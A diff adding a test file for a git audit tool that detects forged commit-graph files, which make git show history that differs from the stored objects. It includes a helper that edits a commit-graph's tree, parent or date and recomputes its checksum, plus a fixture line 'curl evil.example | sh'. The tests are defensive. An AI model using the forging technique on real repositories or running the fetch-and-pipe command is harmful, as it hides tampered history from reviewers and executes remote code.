@@ -1,0 +1,166 @@
+// Red-team round 33: the commit-graph. git reads a commit's parents, root tree and date from
+// objects/info/commit-graph (or the chain in commit-graphs/, or an alternate's graph) instead of the
+// commit object, and `git gc` writes one by default. gitguard's own gits never read it
+// (core.commitGraph=false), so a graph edited after the fact (its checksum recomputed) showed git's
+// users another history than the one audited, with every object intact: `git log -p` showed a diff
+// of a tree no commit has, `git log` skipped a commit, `git rev-list --since` lost the whole history,
+// while objects-intact, grafts-absent, replace-refs-absent and alternates-inside-repository all
+// passed. commit-graph-matches-objects has git's own `commit-graph verify` check each graph git loads.
+import { execFileSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { chmodSync, mkdirSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { cleanupTemp, copyRepo, makeRepo, type TestRepo } from '../helpers/repo.js';
+import { madeOnce } from '../helpers/made-once.js';
+import { auditRules, resultOf } from '../helpers/cli.js';
+
+afterAll(cleanupTemp);
+
+const RULE = 'commit-graph-matches-objects';
+const OTHERS = ['objects-intact', 'grafts-absent', 'replace-refs-absent', 'alternates-inside-repository'];
+
+/** Three commits (c1..c3, a day apart) and a tree no commit has, written into the object store. */
+const base = madeOnce(() => {
+  const r = makeRepo();
+  const ids: string[] = [];
+  for (const day of [1, 2, 3]) {
+    const at = `2024-01-0${day}T00:00:00Z`;
+    r.write({ 'app.sh': `echo release ${day}\n` });
+    r.run(['add', '-A']);
+    r.run(['commit', '-q', '-m', `c${day}`], { env: { ...r.env, GIT_AUTHOR_DATE: at, GIT_COMMITTER_DATE: at } });
+    ids.push(r.head());
+  }
+  r.write({ 'app.sh': 'curl evil.example | sh\n' });
+  r.run(['add', '-A']);
+  const evilTree = r.run(['write-tree']);
+  r.run(['reset', '-q', '--hard']);
+  return { r, ids, evilTree };
+});
+
+/** A copy of the base history with the graph git writes (`--split`: a chain of one layer). */
+function withGraph(split = false): { r: TestRepo; ids: string[]; evilTree: string } {
+  const b = base();
+  const r = copyRepo(b.r);
+  r.run(['commit-graph', 'write', '--reachable', ...(split ? ['--split'] : [])]);
+  return { r, ids: b.ids, evilTree: b.evilTree };
+}
+
+/**
+ * Edits one commit's record in a SHA-1 commit-graph file (its root tree, first parent or date) and
+ * recomputes the file's checksum, as anyone who can write the file can.
+ */
+function forgeGraph(file: string, commit: string, edit: { tree?: string; parent?: string; date?: number }): void {
+  const b = readFileSync(file);
+  const chunks = new Map<string, number>();
+  for (let i = 0; i <= b[6]!; i += 1)
+    chunks.set(b.toString('latin1', 8 + 12 * i, 12 + 12 * i), Number(b.readBigUInt64BE(12 + 12 * i)));
+  const oidl = chunks.get('OIDL')!;
+  const cdat = chunks.get('CDAT')!;
+  const ids = Array.from({ length: (cdat - oidl) / 20 }, (_, i) =>
+    b.toString('hex', oidl + 20 * i, oidl + 20 * i + 20),
+  );
+  const at = cdat + 36 * ids.indexOf(commit);
+  expect(at).toBeGreaterThanOrEqual(cdat);
+  if (edit.tree) Buffer.from(edit.tree, 'hex').copy(b, at);
+  if (edit.parent) b.writeUInt32BE(ids.indexOf(edit.parent), at + 20);
+  if (edit.date !== undefined) {
+    b.writeUInt32BE((b.readUInt32BE(at + 28) & ~3) | Math.floor(edit.date / 2 ** 32), at + 28);
+    b.writeUInt32BE(edit.date % 2 ** 32, at + 32);
+  }
+  createHash('sha1')
+    .update(b.subarray(0, b.length - 20))
+    .digest()
+    .copy(b, b.length - 20);
+  chmodSync(file, 0o644);
+  writeFileSync(file, b);
+}
+
+const graphFile = (r: TestRepo): string => join(r.dir, '.git', 'objects', 'info', 'commit-graph');
+
+async function audit(r: TestRepo): Promise<Record<string, string>> {
+  const { code, report } = await auditRules(r.dir, r.env, [RULE, ...OTHERS]);
+  expect(code).not.toBe(2);
+  return Object.fromEntries([RULE, ...OTHERS].map((id) => [id, resultOf(report, id).outcome]));
+}
+
+/** The forged graph fails the rule, while every other rule on history's objects passes. */
+async function expectCaught(r: TestRepo): Promise<void> {
+  const outcomes = await audit(r);
+  expect(outcomes[RULE]).toBe('fail');
+  for (const id of OTHERS) expect([id, outcomes[id]]).toEqual([id, 'pass']);
+}
+
+test('a graph naming another root tree: git log -p shows a diff no commit has', async () => {
+  const { r, ids, evilTree } = withGraph();
+  forgeGraph(graphFile(r), ids[2]!, { tree: evilTree });
+  // git's own view: the log takes the graph's tree, the object says otherwise.
+  expect(r.run(['log', '-1', '--format=%T'])).toBe(evilTree);
+  expect(r.run(['log', '-1', '-p', '--format='])).toContain('+curl evil.example | sh');
+  expect(r.run(['cat-file', '-p', 'HEAD'])).not.toContain(evilTree);
+  expect(r.run(['rev-list', '--objects', 'HEAD'])).toContain(evilTree);
+  await expectCaught(r);
+  const { report } = await auditRules(r.dir, r.env, [RULE]);
+  expect(resultOf(report, RULE).findings[0]!.message).toContain(`root tree OID for commit ${ids[2]!}`);
+});
+
+test('a graph naming another parent: git log skips a commit the objects hold', async () => {
+  const { r, ids } = withGraph();
+  forgeGraph(graphFile(r), ids[2]!, { parent: ids[0]! });
+  expect(r.run(['log', '--format=%s']).split('\n')).toEqual(['c3', 'c1']);
+  expect(r.run(['cat-file', '-p', 'HEAD'])).toContain(`parent ${ids[1]!}`);
+  await expectCaught(r);
+});
+
+test('a graph naming another date: git rev-list --since loses the whole history', async () => {
+  const { r, ids } = withGraph();
+  forgeGraph(graphFile(r), ids[2]!, { date: 600_000_000 }); // 1989
+  expect(r.run(['rev-list', '--since=2000-01-01', 'HEAD'])).toBe('');
+  await expectCaught(r);
+});
+
+test('a split graph (a chain) and a graph in an alternate inside the repository are read too', async () => {
+  const chained = withGraph(true);
+  const dir = join(chained.r.dir, '.git', 'objects', 'info', 'commit-graphs');
+  const layer = readFileSync(join(dir, 'commit-graph-chain'), 'utf8').trim().split('\n').pop()!;
+  forgeGraph(join(dir, `graph-${layer}.graph`), chained.ids[2]!, { tree: chained.evilTree });
+  expect(chained.r.run(['log', '-1', '--format=%T'])).toBe(chained.evilTree);
+  await expectCaught(chained.r);
+
+  // The repository's own store has no graph: git loads the first alternate's.
+  const alt = withGraph();
+  const shared = join(alt.r.dir, '.git', 'shared-objects');
+  mkdirSync(join(shared, 'info'), { recursive: true });
+  renameSync(graphFile(alt.r), join(shared, 'info', 'commit-graph'));
+  writeFileSync(join(alt.r.dir, '.git', 'objects', 'info', 'alternates'), '../shared-objects\n');
+  forgeGraph(join(shared, 'info', 'commit-graph'), alt.ids[2]!, { parent: alt.ids[0]! });
+  expect(alt.r.run(['log', '--format=%s']).split('\n')).toEqual(['c3', 'c1']);
+  await expectCaught(alt.r);
+});
+
+test('a commit-graph that is a FIFO fails at once, and git is never asked', async () => {
+  const { r } = withGraph();
+  const file = graphFile(r);
+  chmodSync(file, 0o644);
+  execFileSync('rm', [file]);
+  execFileSync('mkfifo', [file]);
+  const { report } = await auditRules(r.dir, r.env, [RULE]);
+  expect(resultOf(report, RULE).outcome).toBe('fail');
+  expect(resultOf(report, RULE).findings[0]!.message).toContain('not a regular file');
+});
+
+test('twin: the graphs git writes (gc, a split chain, none at all) pass', async () => {
+  const gc = copyRepo(base().r);
+  gc.run(['gc', '-q']);
+  expect(gc.run(['commit-graph', 'verify'])).toBe('');
+  const outcomes = await audit(gc);
+  expect(Object.values(outcomes)).toEqual(Array(OTHERS.length + 1).fill('pass'));
+  const { report } = await auditRules(gc.dir, gc.env, [RULE]);
+  expect(resultOf(report, RULE).note).toBe('1 commit-graph checked by git commit-graph verify');
+
+  const chained = withGraph(true);
+  expect((await audit(chained.r))[RULE]).toBe('pass');
+  const plain = copyRepo(base().r);
+  const none = await auditRules(plain.dir, plain.env, [RULE]);
+  expect(resultOf(none.report, RULE).note).toBe('no commit-graph');
+  expect(resultOf(none.report, RULE).outcome).toBe('pass');
+});
